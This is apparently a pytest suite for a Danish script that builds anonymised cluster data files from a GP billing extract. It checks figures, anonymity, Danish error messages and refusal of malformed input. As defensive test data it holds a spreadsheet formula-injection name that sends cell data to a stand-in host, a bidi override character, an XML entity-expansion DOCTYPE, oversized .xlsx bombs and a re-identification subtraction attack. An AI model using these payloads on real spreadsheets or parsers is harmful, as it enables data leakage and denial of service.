"""`make klyngedata` on the fictitious demo extract and on a bad one: the whole chain from extract to cluster data
files, every number checked against pandas reading the extract on its own."""

from __future__ import annotations

import csv
import importlib.util
import io
import math
import shlex
import subprocess
import sys
from fractions import Fraction
from pathlib import Path

import pandas as pd
import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
SCRIPT = ROOT / "scripts" / "klyngedata.py"
FIXTURES = ROOT / "tests" / "fixtures" / "klyngedata"
DEMO = FIXTURES / "fiktivt-udtraek.csv"
BAD = FIXTURES / "fejl-udtraek.csv"
FIXED = ["--seed", "1", "--dato", "2026-11-30"]
PERIOD = ["--fra", "2024-01-01", "--til", "2025-12-31"]  # the extract's period, always given
FILES = {
    "Klynge Nord (fiktiv)": "klynge-nord-fiktiv.csv",
    "Klynge Syd (fiktiv)": "klynge-syd-fiktiv.csv",
    "Klynge Øst (fiktiv)": "klynge-oest-fiktiv.csv",
}
INDICATORS = yaml.safe_load((ROOT / "data/klyngepakker/videokonsultationer.yaml").read_text(encoding="utf-8"))[
    "indicators"
]


def klyngedata(extract, target, *options) -> subprocess.CompletedProcess:
    return subprocess.run(
        [
            sys.executable,
            str(SCRIPT),
            "--fil",
            str(extract),
            "--ud",
            str(target),
            *([] if "--fra" in options or "--til" in options else PERIOD),
            *options,
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )


def expected_practices() -> pd.DataFrame:
    """The demo extract per practice and indicator, computed with pandas from the raw file."""
    extract = pd.read_csv(DEMO, sep=";", encoding="utf-8-sig", dtype={"Ydelseskode": str})
    wide = extract.pivot_table(
        index=["Ydernummer", "Praksis", "Klynge", "Tilmeldte"],
        columns="Ydelseskode",
        values="Antal",
        aggfunc="sum",
        fill_value=0,
    ).reset_index()
    for indicator in INDICATORS:
        codes = [code for code in indicator["codes"] if code in wide.columns]
        wide[indicator["id"]] = wide[codes].sum(axis=1)
    return wide


def sections(path) -> tuple[dict[str, list[str]], list[list[str]], list[list[str]]]:
    """A written file read with the csv module: metadata, indicator rows, practice rows (with their header)."""
    text = path.read_bytes().decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    first_blank = rows.index([])
    second_blank = rows.index([], first_blank + 1)
    metadata = {row[0]: row[1:] for row in rows[1:first_blank]}
    assert rows[-1] == ["Slut på klyngedatafilen"]
    return metadata, rows[first_blank + 1 : second_blank], rows[second_blank + 1 : -1]


def danish_tenths(count: int, listed: int) -> str:
    tenths = math.floor(Fraction(count * 1000, listed) * 10 + Fraction(1, 2))
    return f"{tenths // 10},{tenths % 10}"


@pytest.fixture(scope="module")
def demo_run(tmp_path_factory):
    target = tmp_path_factory.mktemp("klyngedata") / "ud"
    return klyngedata(DEMO, target, *FIXED), target


def test_demo_extract_gives_one_file_per_cluster_of_five_or_more(demo_run):
    result, target = demo_run
    assert result.returncode == 0, result.stderr
    assert sorted(path.name for path in target.iterdir()) == sorted(FILES.values())
    assert "Klyngen »Klynge Vest (fiktiv)« har kun 3 praksis og får ingen fil" in result.stdout
    assert "Kolonnen »region« er ikke brugt" in result.stdout
    for name in FILES.values():
        assert f"  - {name}" in result.stdout


def test_every_number_matches_the_extract(demo_run):
    _, target = demo_run
    practices = expected_practices()
    ids = [indicator["id"] for indicator in INDICATORS]
    for cluster, name in FILES.items():
        metadata, indicator_rows, practice_rows = sections(target / name)
        assert metadata["Klynge"] == [cluster]
        assert metadata["Klyngepakke"] == ["videokonsultationer", "Videokonsultationer i almen praksis"]
        assert (metadata["Første dag"], metadata["Sidste dag"]) == (["2024-01-01"], ["2025-12-31"])
        assert metadata["Dato"] == ["2026-11-30"]
        assert metadata["Data"] == ["anonyme"]
        members = practices[practices["Klynge"] == cluster]
        assert metadata["Antal praksis"] == [str(len(members))]
        assert practice_rows[0] == ["Praksis", "Tilmeldte", *ids]
        written = sorted(tuple(int(cell) for cell in row[1:]) for row in practice_rows[1:])
        expected = sorted(tuple(int(value) for value in row) for row in members[["Tilmeldte", *ids]].to_numpy())
        assert written == expected
        assert [row[0] for row in practice_rows[1:]] == [f"Praksis {chr(65 + i)}" for i in range(len(members))]


def test_region_rates_cover_the_practices_of_the_files_only(demo_run):
    """Klynge Vest has too few practices for a file. Were its practices in the region's sums, the region's totals
    minus the three files' rows would give them away; the region is the practices of the files."""
    _, target = demo_run
    practices = expected_practices()
    practices = practices[practices["Klynge"].isin(FILES)]
    listed = int(practices["Tilmeldte"].sum())
    for name in FILES.values():
        metadata, indicator_rows, _ = sections(target / name)
        assert metadata["Regionens praksis"] == [str(len(practices))]
        assert metadata["Regionens tilmeldte"] == [str(listed)]
        assert [row[0] for row in indicator_rows[1:]] == [indicator["id"] for indicator in INDICATORS]
        for row, indicator in zip(indicator_rows[1:], INDICATORS):
            count = int(practices[indicator["id"]].sum())
            assert row == [
                indicator["id"],
                indicator["name"],
                ", ".join(indicator["codes"]),
                str(count),
                danish_tenths(count, listed),
            ]


def test_nothing_identifying_in_an_anonymous_file(demo_run):
    _, target = demo_run
    extract = pd.read_csv(DEMO, sep=";", encoding="utf-8-sig", dtype=str)
    for name in FILES.values():
        text = (target / name).read_text(encoding="utf-8-sig")
        for value in {*extract["Ydernummer"], *extract["Praksis"], *extract["Region"]}:
            assert value not in text


def test_letters_do_not_follow_the_extract(tmp_path):
    """The same practice gets a different letter with another random order."""
    orders = set()
    for seed in ("1", "2", "3"):
        assert klyngedata(DEMO, tmp_path / seed, "--seed", seed, "--dato", "2026-11-30").returncode == 0
        _, _, rows = sections(tmp_path / seed / FILES["Klynge Syd (fiktiv)"])
        orders.add(tuple(row[1] for row in rows[1:]))
    assert len(orders) > 1


def test_open_cluster_keeps_names_and_period_is_given(tmp_path):
    period = ["--fra", "2025-07-01", "--til", "2026-06-30"]
    result = klyngedata(DEMO, tmp_path, *FIXED, *period, "--aabne", "Klynge Syd (fiktiv)")
    assert result.returncode == 0, result.stderr
    metadata, _, rows = sections(tmp_path / FILES["Klynge Syd (fiktiv)"])
    assert metadata["Data"] == ["åbne"]
    assert (metadata["Første dag"], metadata["Sidste dag"]) == (["2025-07-01"], ["2026-06-30"])
    practices = expected_practices()
    members = practices[practices["Klynge"] == "Klynge Syd (fiktiv)"].sort_values("Praksis")
    assert [row[0] for row in rows[1:]] == members["Praksis"].tolist()
    assert [int(row[1]) for row in rows[1:]] == members["Tilmeldte"].tolist()
    assert [int(row[2]) for row in rows[1:]] == members["video"].tolist()
    assert sections(tmp_path / FILES["Klynge Nord (fiktiv)"])[0]["Data"] == ["anonyme"]


def same_files(first, second) -> bool:
    return {p.name: p.read_bytes() for p in first.iterdir()} == {p.name: p.read_bytes() for p in second.iterdir()}


def test_xlsx_comma_and_wide_extracts_give_the_same_files(demo_run, tmp_path):
    _, target = demo_run
    extract = pd.read_csv(DEMO, sep=";", encoding="utf-8-sig", dtype={"Ydelseskode": str})
    variants = {
        "udtraek.xlsx": lambda path: extract.to_excel(path, index=False),
        "komma.csv": lambda path: extract.to_csv(path, sep=",", index=False, encoding="utf-8"),
    }
    wide = extract.pivot_table(
        index=["Ydernummer", "Praksis", "Klynge", "Tilmeldte"],
        columns="Ydelseskode",
        values="Antal",
        aggfunc="sum",
        fill_value=0,
    ).reset_index()
    variants["bred.csv"] = lambda path: wide.to_csv(path, sep=";", index=False, encoding="utf-8-sig")
    for name, write in variants.items():
        write(tmp_path / name)
        result = klyngedata(tmp_path / name, tmp_path / f"ud-{name}", *FIXED)
        assert result.returncode == 0, f"{name}: {result.stderr}"
        assert same_files(target, tmp_path / f"ud-{name}"), name


def test_cp1252_extract_says_how_to_save_it(tmp_path):
    (tmp_path / "ansi.csv").write_bytes(DEMO.read_text(encoding="utf-8-sig").encode("cp1252"))
    result = klyngedata(tmp_path / "ansi.csv", tmp_path / "ud", *FIXED)
    assert result.returncode == 1
    assert "ansi.csv, række 2: filen er ikke gemt som UTF-8" in result.stderr
    assert "»CSV UTF-8 (kommasepareret) (*.csv)«" in result.stderr
    assert not (tmp_path / "ud").exists()


def test_bad_extract_names_every_problem_and_writes_nothing(tmp_path):
    result = klyngedata(BAD, tmp_path / "ud", *FIXED)
    assert result.returncode == 1
    assert "Der er ikke skrevet nogen filer. Ret 9 fejl i udtrækket" in result.stderr
    expected = [
        "række 3, kolonne »antal«: »2500,5« er ikke et helt tal",
        "række 5: ydernummer 990102 har et andet antal tilmeldte (»4100«) end i række 4 (»4000«)",
        "række 6: ydelseskode 0999 bruges ikke i klyngepakken",
        "række 7, kolonne »klynge«: feltet er tomt",
        "række 8, kolonne »tilmeldte«: »abc« er ikke et tal",
        "række 9: ydernummer 990104 har ydelseskode 0101 igen (første gang i række 8)",
        "række 10, kolonne »antal«: »-3« er negativt",
        "række 11: ydernummer 990105 har en anden klynge (»Klynge Fejl (fiktiv)«) end i række 10",
        "række 13, kolonne »ydernummer«: feltet er tomt",
    ]
    lines = [line for line in result.stderr.splitlines() if line.startswith("  - ")]
    assert len(lines) == len(expected)
    for line, fragment in zip(lines, expected):
        assert line.startswith("  - fejl-udtraek.csv, ") and fragment in line
    assert "række 12" not in result.stderr  # code 101 for 0101 and 1.234 with a thousands dot are read as meant
    assert not (tmp_path / "ud").exists()


def test_missing_column_and_misspelt_open_cluster(tmp_path):
    extract = pd.read_csv(DEMO, sep=";", encoding="utf-8-sig", dtype=str)
    extract.drop(columns="Klynge").to_csv(tmp_path / "uden.csv", sep=";", index=False)
    result = klyngedata(tmp_path / "uden.csv", tmp_path / "ud", *FIXED)
    assert result.returncode == 1 and "uden.csv, række 1: kolonnen »klynge« mangler" in result.stderr
    result = klyngedata(DEMO, tmp_path / "ud", *FIXED, "--aabne", "Klynge Nrod (fiktiv)")
    assert result.returncode == 1
    assert "AABNE nævner klyngen »Klynge Nrod (fiktiv)«, som ikke er i udtrækket" in result.stderr
    extract.drop(columns="Praksis").to_csv(tmp_path / "uden-navne.csv", sep=";", index=False)
    result = klyngedata(tmp_path / "uden-navne.csv", tmp_path / "ud", *FIXED, "--aabne", "Klynge Syd (fiktiv)")
    assert result.returncode == 1
    assert (
        "Klyngen »Klynge Syd (fiktiv)« skal have åbne data, men udtrækket har ikke alle dens praksis' navne"
        in result.stderr
    )
    result = klyngedata(DEMO, tmp_path / "ud", *FIXED, "--pakke", "antibiotika")
    assert result.returncode == 1 and "PAKKE=antibiotika: der er ingen klyngepakke med beregner" in result.stderr
    assert not (tmp_path / "ud").exists()


def test_a_failure_while_writing_leaves_nothing_behind(tmp_path, monkeypatch):
    spec = importlib.util.spec_from_file_location("klyngedata_script", SCRIPT)
    script = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(script)
    written = []

    def fail_on_second(data):
        if written:
            raise OSError("disken er fuld")
        written.append(data)
        return "x"

    monkeypatch.setattr(script, "write_cluster_file", fail_on_second)
    with pytest.raises(OSError):
        period = script.Period(script.dt.date(2024, 1, 1), script.dt.date(2025, 12, 31))
        script.make(DEMO, tmp_path / "ud", set(), None, period, script.dt.date(2026, 11, 30), script.random.Random(1))
    assert list((tmp_path / "ud").iterdir()) == []


def test_make_target_passes_every_variable(tmp_path):
    dry = subprocess.run(
        [
            "make",
            "-n",
            "klyngedata",
            f"FIL={DEMO}",
            f"UD={tmp_path / 'ud'}",
            "AABNE=Klynge Syd (fiktiv),Klynge Nord (fiktiv)",
            "FRA=2024-07-01",
            "TIL=2025-06-30",
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    command = next(line for line in dry.stdout.splitlines() if "scripts/klyngedata.py" in line)
    args = shlex.split(command)
    assert args[0] == ".venv/bin/python"
    result = subprocess.run([sys.executable, *args[1:], *FIXED], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    for name in ("Klynge Syd (fiktiv)", "Klynge Nord (fiktiv)"):
        metadata, _, _ = sections(tmp_path / "ud" / FILES[name])
        assert metadata["Data"] == ["åbne"]
        assert (metadata["Første dag"], metadata["Sidste dag"]) == (["2024-07-01"], ["2025-06-30"])


@pytest.mark.parametrize(
    "period",
    [[], ["--fra", "2024-01-01"], ["--fra", "2025-01-01", "--til", "2024-12-31"], ["--fra", "1/1-24", "--til", "x"]],
)
def test_the_period_must_be_given_and_sound(tmp_path, period):
    """Without the extract's own first and last day no file is written: the pack's period may be older, or invented."""
    result = klyngedata(DEMO, tmp_path / "ud", *FIXED, *(period or ["--fra", "", "--til", ""]))
    assert result.returncode == 2
    assert result.stderr.startswith("Angiv den periode, udtrækket dækker, med første og sidste dag: FRA=2024-01-01")
    assert not (tmp_path / "ud").exists()


def renamed(tmp_path, cluster: str, practice: str | None = None):
    """The demo extract with Klynge Syd renamed (and, optionally, its first practice)."""
    extract = pd.read_csv(DEMO, sep=";", encoding="utf-8-sig", dtype=str)
    if practice is not None:
        first = extract.loc[extract["Klynge"] == "Klynge Syd (fiktiv)", "Praksis"].iloc[0]
        extract.loc[extract["Praksis"] == first, "Praksis"] = practice
    extract.loc[extract["Klynge"] == "Klynge Syd (fiktiv)", "Klynge"] = cluster
    path = tmp_path / "udtraek.csv"
    extract.to_csv(path, sep=";", index=False, encoding="utf-8-sig")
    return path


@pytest.mark.parametrize(
    ("cluster", "practice", "message"),
    [
        ('=HYPERLINK("http://127.0.0.2/?d="&B2,"Klik")', None, "begynder med »=«, som et regneark læser som en formel"),
        ("Klynge Syd (fiktiv)", "+1+1", "Praksis »+1+1« i klyngen »Klynge Syd (fiktiv)« begynder med »+«"),
        ("Klynge\u202eSyd", None, "usynligt tegn (U+202E)"),
        ("K" * 300, None, "er 300 tegn langt; et navn har højst 80 tegn"),
    ],
)
def test_hostile_names_are_refused_in_danish_and_nothing_is_written(tmp_path, cluster, practice, message):
    result = klyngedata(renamed(tmp_path, cluster, practice), tmp_path / "ud", *FIXED, "--aabne", cluster)
    assert result.returncode == 1, result.stderr
    assert message in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "ud").exists() or not any((tmp_path / "ud").iterdir())


def test_files_are_for_their_owner_only_and_a_device_name_is_no_file_name(tmp_path):
    result = klyngedata(renamed(tmp_path, "CON"), tmp_path / "ud", *FIXED)
    assert result.returncode == 0, result.stderr
    names = sorted(path.name for path in (tmp_path / "ud").iterdir())
    assert "con-klynge.csv" in names and "con.csv" not in names
    assert {oct((tmp_path / "ud" / name).stat().st_mode & 0o777) for name in names} == {"0o600"}


def test_no_left_out_practice_can_be_worked_out_from_the_files(demo_run):
    """The attack: the region's sums minus every file's rows. It must give nothing, not Klynge Vest's practices."""
    _, target = demo_run
    left = {"listed": None, "counts": None}
    for name in FILES.values():
        metadata, indicator_rows, practice_rows = sections(target / name)
        region_listed = int(metadata["Regionens tilmeldte"][0])
        region_counts = [int(row[3]) for row in indicator_rows[1:]]
        if left["listed"] is None:
            left = {"listed": region_listed, "counts": region_counts}
        left["listed"] -= sum(int(row[1]) for row in practice_rows[1:])
        left["counts"] = [c - sum(int(row[2 + i]) for row in practice_rows[1:]) for i, c in enumerate(left["counts"])]
    assert left == {"listed": 0, "counts": [0] * len(INDICATORS)}


CODES = [code for indicator in INDICATORS for code in indicator["codes"]]


def test_a_practice_alone_in_its_size_is_named_before_an_anonymous_file_is_sent(tmp_path):
    """The issue's cluster: four practices of about 6.100 patients and one of 1.468. Its letter hides nothing from
    colleagues, so the consultant is told which letter, to ask the cluster first; an open cluster is not warned."""
    rows = ["Ydernummer;Praksis;Klynge;Tilmeldte;Ydelseskode;Antal"]
    for number, listed in enumerate([6050, 6120, 1468, 6180, 6090], start=1):
        rows += [f"99100{number};Praksis {number} (fiktiv);Klynge Lille (fiktiv);{listed};{code};10" for code in CODES]
    extract = tmp_path / "lille.csv"
    extract.write_text("\n".join(rows) + "\n", encoding="utf-8")
    result = klyngedata(extract, tmp_path / "ud", *FIXED)
    assert result.returncode == 0, result.stderr
    [warning] = [line for line in result.stdout.splitlines() if line.startswith("Bemærk")]
    _, _, practice_rows = sections(tmp_path / "ud" / "klynge-lille-fiktiv.csv")
    letter = next(row[0] for row in practice_rows[1:] if row[1] == "1468")
    assert warning == (
        f"Bemærk: klyngen »Klynge Lille (fiktiv)« har anonyme data, men {letter} er den eneste praksis af sin "
        "størrelse (1.468 tilmeldte; nærmeste 6.050), så kolleger i klyngen kan nok se, hvem det er. Spørg klyngen, "
        "før du sender filen."
    )
    opened = klyngedata(extract, tmp_path / "ud2", *FIXED, "--aabne", "Klynge Lille (fiktiv)")
    assert opened.returncode == 0 and "Bemærk" not in opened.stdout


def xlsx_with(tmp_path, name: str, change) -> Path:
    """The demo extract as an Excel sheet, with `change(sheet_xml) -> sheet_xml` applied to its first sheet."""
    import zipfile

    plain = tmp_path / "plain.xlsx"
    pd.read_csv(DEMO, sep=";", encoding="utf-8-sig", dtype=str).to_excel(plain, index=False)
    path = tmp_path / name
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = change(data)
            target.writestr(member, data)
    return path


@pytest.mark.parametrize(
    ("name", "change", "message"),
    [
        (
            "langt-ude.xlsx",
            lambda xml: xml.replace(
                b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
            ),
            "Excel-arket har celler ud til række 1048576 og kolonne 16384",
        ),
        (
            "entiteter.xlsx",
            lambda xml: xml.replace(
                b"<worksheet", b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><worksheet', 1
            ),
            "Excel-arket indeholder definitioner (»<!DOCTYPE« i xl/worksheets/sheet1.xml)",
        ),
        (
            "luft.xlsx",
            lambda xml: xml.replace(b"</worksheet>", b" " * 60_000_000 + b"</worksheet>"),
            "Excel-arket fylder over 50 MB udpakket",
        ),
    ],
)
def test_hostile_excel_sheets_are_refused_before_they_are_read(tmp_path, name, change, message):
    """A few kilobytes of .xlsx used 4 GB (a cell at XFD1048576) or 1 GB (whitespace) before MemoryError, and
    entities ended in an English ParseError: each is now one Danish line, at once."""
    result = klyngedata(xlsx_with(tmp_path, name, change), tmp_path / "ud", *FIXED)
    assert result.returncode == 1, result.stderr
    assert f"{name}: {message}" in result.stderr and "Traceback" not in result.stderr


def test_a_folder_that_cannot_be_written_is_said_in_danish(tmp_path):
    blocked = tmp_path / "fil"
    blocked.write_text("ikke en mappe", encoding="utf-8")
    result = klyngedata(DEMO, blocked / "ud", *FIXED)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.startswith("Der er ikke skrevet nogen filer: ") and "kan ikke skrives" in result.stderr
